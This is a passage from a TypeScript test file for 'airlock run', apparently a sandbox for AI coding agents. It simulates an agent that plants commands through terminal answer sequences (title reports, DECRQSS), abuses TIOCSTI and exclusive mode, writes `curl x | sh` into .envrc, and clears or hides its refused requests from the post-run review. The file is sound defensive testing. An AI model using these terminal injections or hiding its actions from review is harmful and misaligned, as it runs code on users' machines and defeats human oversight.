    // modules on demand; asked here for N_TTY, which changes nothing where it is allowed.
    'import struct',
    'try:',
    "    fcntl.ioctl(0, termios.TIOCSETD, struct.pack('i', 0)); print('setd=set')",
    'except OSError as e:',
    "    print('setd=' + e.strerror)",
    // Sixteenth pass: terminal state that outlived the run. Settings (raw, no echo, another
    // interrupt character) are set back after it; exclusive mode (later opens of the terminal fail)
    // and stopped output are refused.
    'a = termios.tcgetattr(0)',
    'a[3] &= ~(termios.ECHO | termios.ICANON | termios.ISIG); a[0] &= ~termios.ICRNL; a[6][termios.VINTR] = 0',
    "termios.tcsetattr(0, termios.TCSANOW, a); print('settings=changed')",
    // Twenty-fifth pass: the agent asks the terminal for its window title (CSI 21 t; DECRQSS and
    // colour queries answer alike), which a terminal that allows it types back, and ends without
    // reading the answer: the next reader of the terminal, the user's shell, would run it.
    'import select',
    "os.write(0, b'\\x1b[21t')",
    "print('answered=%s' % bool(select.select([0], [], [], 20)[0]))",
    // And one whose answer is still on its way when the run ends (a terminal far away): DECRQSS.
    "os.write(0, b'\\x1bP$qm\\x1b\\\\')",
    'for name, req, arg in (("excl", termios.TIOCEXCL, 0), ("flow", termios.TCXONC, termios.TCOOFF)):',
    '    try:',
    "        fcntl.ioctl(0, req, arg); print(name + '=set')",
    '    except OSError as e:',
    "        print(name + '=' + e.strerror)",
    // Dying of a signal airlock run dies of too, where Node's own reset of the terminal at exit
    // does not run.
    'import signal, sys',
    'sys.stdout.flush()',
    'os.kill(os.getpid(), signal.SIGHUP)',
  ].join('\n'));
  const launcher = [
    'import os, subprocess, sys, termios, fcntl, struct',
    'm, s = os.openpty()',
    'before = termios.tcgetattr(s)',
    // The launcher plays the terminal too: it answers a title report with a title ending in a newline.
    'import select, time',
    'p = subprocess.Popen(sys.argv[1:], stdin=s, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)',
    // The DECRQSS answer is late: sent only when airlock run asks where the cursor is (DSR, whose
    // answer follows), or after airlock run ended. Its content is the agent's choice, as a terminal
    // that echoes an unknown request (iTerm2's CVE-2022-45872) gives it.
    "seen, end, title, late, fence = b'', time.monotonic() + 60, False, False, False",
    'while p.poll() is None and time.monotonic() < end:',
    '    if select.select([m], [], [], 0.2)[0]:',
    '        try: seen += os.read(m, 4096)',
    '        except OSError: break',
    "    if not title and b'\\x1b[21t' in seen: os.write(m, b'\\x1b]lecho typed-back\\n\\x1b\\\\'); title = True",
    "    if not late and not fence and b'\\x1bP$qm' in seen and b'\\x1b[6n' in seen[seen.index(b'\\x1bP$qm'):]:",
    "        os.write(m, b'\\x1bP1$rtyped-late\\n\\x1b\\\\\\x1b[1;1R'); late = fence = True",
    'out, _ = p.communicate(timeout=60)',
    "if not late and b'\\x1bP$qm' in seen: os.write(m, b'\\x1bP1$rtyped-late\\n\\x1b\\\\'); late = True",
    "print('fence=%s' % fence)",
    'sys.stdout.write(out.decode())',
    "print('died=%d' % p.returncode)",
    "print('restored=%s' % (termios.tcgetattr(s) == before))",
    // TIOCGEXCL: whether the terminal is in exclusive mode.
    "print('exclusive=%d' % struct.unpack('i', fcntl.ioctl(s, 0x80045440, b'\\0' * 4))[0])",
    'os.set_blocking(m, False)',
    'try:',
    "    print('echoed=%r' % os.read(m, 4096))",
    'except BlockingIOError:',
    "    print('echoed=none')",
    'os.set_blocking(s, False)',
    'try:',
    "    print('queued=%r' % os.read(s, 4096))",
    'except BlockingIOError:',
    "    print('queued=none')",
  ].join('\n');
  const out = await new Promise<string>((resolve) => {
    const child = spawn('python3', ['-c', launcher, process.execPath, airlockBin, 'run', '--agent', world.agent, '--home', world.home, '--', 'python3', probeTty], { cwd: world.work, stdio: ['ignore', 'pipe', 'inherit'] });
    let text = '';
    child.stdout.setEncoding('utf8').on('data', (c: string) => (text += c));
    const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
    child.on('close', () => {
      clearTimeout(timer);
      resolve(text);
    });
  });
  const r = results(out);
  t.equal(r.isatty, 'True', `the agent's stdin is the terminal (${out.trim()})`);
  t.equal(r.tiocsti, 'Operation not permitted', 'pushing input into the terminal is refused');
  t.equal(r.own, 'Operation not permitted', `also after making it its controlling terminal (${r.ctty})`);
  t.equal(r.answered, 'True', 'the terminal answered the agent\'s title report');
  t.equal(r.fence, 'True', 'airlock run asked the terminal where the cursor is, and the late answer came before that one');
  t.equal(r.queued, 'none', 'nothing waits in the terminal for the next reader: not what was pushed, nor the answer the agent left unread (twenty-fifth pass)');
  t.equal(r.setd, 'Operation not permitted', 'the terminal\'s line discipline cannot be changed (twelfth pass)');
  t.equal(r.settings, 'changed', 'the agent may change the terminal\'s settings while it runs (raw mode)');
  t.equal(r.died, '-1', 'airlock run died of the agent\'s SIGHUP');
  t.equal(r.restored, 'True', 'they are set back after the run, also when airlock run dies of a signal (sixteenth pass)');
  t.equal(r.excl, 'Operation not permitted', 'exclusive mode (later opens of the terminal fail) is refused');
  t.equal(r.exclusive, '0', 'and the terminal is not exclusive after the run');
  t.equal(r.flow, 'Operation not permitted', 'stopping the terminal\'s output is refused');
});

t.test('twenty-fifth pass: what a terminal typed back and no one read is gone after the run, in any mode, with or without a line end; the settings stay', async (t) => {
  // One Python process plays the terminals: for each case it opens pseudo-terminals, leaves each
  // in canonical or raw mode, and types an answer on the master (what a terminal answers to a title
  // report, DECRQSS, an OSC query, a DSR: with a newline ending it, in the middle, or none). This
  // process opens each slave as airlock run holds its stdio and discards their input; Python then
  // looks at what a shell reading next would get (FIONREAD after leaving canonical mode, which
  // keeps the queue) and whether the settings changed.
  const { discardTerminalInput } = await import('../../sandbox/launch.ts');
  const player = [
    'import json, os, sys, termios, fcntl, struct',
    'for line in sys.stdin:',
    '    case = json.loads(line); ptys = []',
    '    for c in case:',
    '        m, s = os.openpty()',
    '        a = termios.tcgetattr(s)',
    '        if c["raw"]:',
    '            a[3] &= ~(termios.ICANON | termios.ECHO); a[6][termios.VMIN] = 1; a[6][termios.VTIME] = 0',
    '        else:',
    '            a[3] &= ~termios.ECHO',
    '        termios.tcsetattr(s, termios.TCSANOW, a)',
    '        os.write(m, bytes(c["answer"]))',
    '        ptys.append((m, s, termios.tcgetattr(s)))',
    '    print(json.dumps([os.ttyname(s) for m, s, _ in ptys]), flush=True)',
    '    sys.stdin.readline()',
    '    out = []',
    '    for m, s, before in ptys:',
    '        same = termios.tcgetattr(s) == before',
    '        a = termios.tcgetattr(s); a[3] &= ~termios.ICANON',
    '        termios.tcsetattr(s, termios.TCSANOW, a)',
    "        left = struct.unpack('i', fcntl.ioctl(s, termios.FIONREAD, b'\\0' * 4))[0]",
    '        out.append({"same": same, "left": left}); os.close(m); os.close(s)',
    '    print(json.dumps(out), flush=True)',
  ].join('\n');
  const py = spawn('python3', ['-c', player], { stdio: ['pipe', 'pipe', 'inherit'] });
  t.teardown(() => {
    py.stdin.end();
    py.kill();
  });
  const lines: string[] = [];
  let waiting: ((l: string) => void) | undefined;
  let buffered = '';
  py.stdout.setEncoding('utf8').on('data', (c: string) => {
    buffered += c;
    for (let i = buffered.indexOf('\n'); i >= 0; i = buffered.indexOf('\n')) {
      lines.push(buffered.slice(0, i));
      buffered = buffered.slice(i + 1);
    }
    if (lines.length && waiting) waiting(lines.shift()!);
  });
  const ask = (text: string): Promise<string> => new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error('the terminal player did not answer')), 30_000);
    waiting = (l) => {
      clearTimeout(timer);
      waiting = undefined;
      resolve(l);
    };
    py.stdin.write(`${text}\n`);
    if (lines.length) waiting(lines.shift()!);
  });
  const enc = (x: string): number[] => [...Buffer.from(x, 'latin1')];
  const title = fc.stringMatching(/^[ -~]{0,40}$/);
  const answer = fc.oneof(
    title.map((x) => enc(`\x1b]l${x}\x1b\\`)), // xterm's title report
    title.map((x) => enc(`\x1bP1$r${x}\x1b\\`)), // DECRQSS
    title.map((x) => enc(`\x1b]11;${x}\x07`)), // an OSC colour query's answer
    fc.nat(999).map((n) => enc(`\x1b[${n};1R`)), // DSR: the cursor's place
  );
  const cmd = fc.stringMatching(/^[a-z ;|/.-]{1,30}$/);
  const aCase = fc.record({
    raw: fc.boolean(),
    answer: fc.tuple(answer, fc.constantFrom('', '\n', '\r', '\r\n'), fc.option(cmd, { nil: undefined }), fc.constantFrom('', '\n'))
      .map(([a, end, c, end2]) => [...a, ...enc(end), ...enc(c ?? ''), ...enc(end2)]),
  });
  let cases = 0;
  await fc.assert(fc.asyncProperty(fc.array(aCase, { minLength: 1, maxLength: 3 }), async (ptys) => {
    const paths = JSON.parse(await ask(JSON.stringify(ptys))) as string[];
    const fds = paths.map((p) => fs.openSync(p, fs.constants.O_RDWR | fs.constants.O_NOCTTY));
    let thrown: number;
    try {
      thrown = discardTerminalInput(fds, 0); // no one answers the fence here: tested with the launcher above
    } finally {
      // discardTerminalInput's own streams close at the next turn; ours now.
      for (const fd of fds) fs.closeSync(fd);
    }
    await new Promise((r) => setImmediate(r));
    const after = JSON.parse(await ask('check')) as Array<{ same: boolean; left: number }>;
    cases++;
    return after.every((a) => a.same && a.left === 0) && thrown === ptys.reduce((n, p) => n + p.answer.length, 0);
  }), { numRuns: 25 });
  t.equal(cases >= 25, true, `${cases} cases: each terminal's queue emptied (every byte read, none left) and its settings unchanged`);
});

t.test('twenty-fifth pass: the report after the run shows on a real terminal (tmux) whatever the agent left it in', { skip: fs.existsSync('/usr/bin/tmux') ? false : 'no tmux' }, async (t) => {
  // The report of files changed that run later is the review the sandbox relies on, and the agent
  // writes to the same terminal first: a title left open (`ESC ] 0;`) swallowed it whole, conceal
  // or black on black hid it, the line-drawing set garbled it. tmux is the terminal: its parser
  // decides, and capture-pane shows what a person sees (with -e, the attributes too).
  const { TERMINAL_RESET } = await import('../../sandbox/launch.ts');
  const sock = path.join(world.dir, 'tmux-h25.sock');
  const tmux = (...a: string[]): Promise<string> => new Promise((resolve) => {
    const c = spawn('/usr/bin/tmux', ['-S', sock, '-f', '/dev/null', ...a], { stdio: ['ignore', 'pipe', 'ignore'] });
    let out = '';
    c.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
    const timer = setTimeout(() => c.kill('SIGKILL'), 60_000);
    c.on('close', () => {
      clearTimeout(timer);
      resolve(out);
    });
  });
  await tmux('new-session', '-d', '-x', '200', '-y', '40', 'sleep 600'); // ended by kill-server
  t.teardown(() => tmux('kill-server'));
  const q = (x: string): string => `'${x.replace(/'/g, `'\\''`)}'`;
  // 1. A real run: the agent makes a request Airlock refuses (airlock run says so at once), waits
  // for that line, clears the screen and the scrollback, makes .envrc, then leaves a window title open.
  const dir = fs.mkdtempSync(path.join(world.dir, 'screen-'));
  const agent = `curl -s -o /dev/null http://denied.test:${UP}/hidden-denial; sleep 2; printf '\\033[2J\\033[3J\\033[H'; echo 'curl x | sh' > .envrc; printf 'working\\033]0;done '`;
  const run = [process.execPath, airlockBin, 'run', '--agent', world.agent, '--home', world.home, '--', 'sh', '-c', agent].map(q).join(' ');
  await tmux('new-window', '-d', '-n', 'run', '-c', dir, `${run}; /usr/bin/tmux -S ${q(sock)} wait-for -S run-done; sleep 60`);
  await tmux('wait-for', 'run-done');
  const screen = await tmux('capture-pane', '-t', 'run', '-p', '-J', '-S', '-200');
  t.match(screen, /airlock: {3}\.envrc \(direnv/, `the report names .envrc on the screen (screen: ${JSON.stringify(screen.trim())})`);
  t.match(screen, /Airlock refused 1 of the agent's requests while it ran[^\n]*\n[^\n]*airlock: denied 403 GET http:\/\/denied\.test:\d+\/hidden-denial/, 'and the refusal the agent cleared off the screen is said again after the run');
  // 2. fast-check over what the agent's output ends in, each case a window printing it, then the
  // reset airlock run writes, then a report line.
  const text = fc.stringMatching(/^[ -~]{0,12}$/);
  const tail = fc.array(fc.oneof(
    fc.tuple(fc.constantFrom('\x1b]0;', '\x1b]2;', '\x1b]8;;', '\x1b]52;c;', '\x1bP', '\x1bP1$r', '\x1b_', '\x1b^', '\x1bX', '\x1b]'), text).map(([a, b]) => a + b),
    fc.constantFrom('\x1b[8m', '\x1b[30;40m', '\x1b[37;47m', '\x1b[38;5;0;48;5;0m', '\x1b[2;8m', '\x1b(0', '\x1b)0\x0e', '\x1b[5;6r\x1b[?6h', '\x1b[4h', '\x1b[?7l', '\x1b[?25l'),
    fc.constantFrom('\x1b', '\x1b[', '\x1b[1;2', '\x1b[?', '\x1b(', '\x1b]0;x\x1b', '\x1bP\x1b'),
    text,
  ), { minLength: 1, maxLength: 4 }).map((parts) => parts.join(''));
  let n = 0;
  await fc.assert(fc.asyncProperty(tail, async (tl) => {
    n++;
    const file = path.join(dir, `case-${n}`);
    fs.writeFileSync(file, `agent ${tl}${TERMINAL_RESET}airlock: report line ${n}\n`, 'latin1');
    await tmux('new-window', '-d', '-n', `c${n}`, `cat ${q(file)}; /usr/bin/tmux -S ${q(sock)} wait-for -S c${n}; sleep 30`);
    await tmux('wait-for', `c${n}`);
    const shown = await tmux('capture-pane', '-t', `c${n}`, '-p', '-e');
    await tmux('kill-window', '-t', `c${n}`);
    // Shown whole, in plain characters: no attribute (an SGR) or shift left in force before it on its line.
    const line = shown.split('\n').find((l) => l.includes(`airlock: report line ${n}`)) ?? '';
    const before = line.slice(0, line.indexOf('airlock: report line'));
    const lastSgr = before.lastIndexOf('\x1b[');
    return line !== '' && !before.includes('\x0e') && (lastSgr < 0 || /^\x1b\[0?m/.test(before.slice(lastSgr)) || /^\x1b\[(?:39|49|0|;)+m/.test(before.slice(lastSgr)));
  }), { numRuns: 30 });
  t.pass(`${n} endings: the report line shows whole and plain`);
});
